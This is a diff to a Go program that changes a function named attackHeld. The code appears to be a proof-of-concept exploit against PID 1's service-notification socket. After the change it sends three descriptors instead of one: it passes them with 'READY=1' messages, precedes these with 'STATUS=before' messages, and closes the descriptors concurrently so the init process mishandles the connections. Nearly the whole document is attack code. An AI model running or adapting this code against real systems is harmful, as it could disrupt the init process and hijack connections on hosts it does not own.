@@ -44,23 +44,28 @@ func lingering() (fd int, err error) {
 	return fd, nil
 }
 
-// attackHeld sends the last descriptor of such a connection to a socket of PID 1, so that who takes
-// it there closes the connection. Then it stays, as the other end of that.
+// attackHeld sends the last descriptors of such connections to a socket of PID 1, so that who takes
+// them there closes the connections: one is taken, others wait. Then it stays, as their other end.
 func attackHeld(path string) {
-	held, err := lingering()
-	if err != nil {
-		fmt.Println("no connection:", err)
-	}
 	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
-	for range 3 { // PID 1 takes its time for each: this process has closed the descriptor then
+	var held [3]int
+	for i := range held {
 		if err == nil {
-			err = unix.Sendto(fd, []byte("STATUS=before"), 0, &unix.SockaddrUnix{Name: path})
+			held[i], err = lingering()
 		}
 	}
-	if err == nil {
-		err = unix.Sendmsg(fd, []byte("READY=1"), unix.UnixRights(held), &unix.SockaddrUnix{Name: path}, 0)
+	to := &unix.SockaddrUnix{Name: path}
+	for range held { // PID 1 takes its time for each: this process has closed the descriptors then
+		if err == nil {
+			err = unix.Sendto(fd, []byte("STATUS=before"), 0, to)
+		}
 	}
-	go unix.Close(held)
+	for _, h := range held {
+		if err == nil {
+			err = unix.Sendmsg(fd, []byte("READY=1"), unix.UnixRights(h), to, 0)
+		}
+		go unix.Close(h)
+	}
 	fmt.Println("sent", err)
 	time.Sleep(time.Hour)
 }
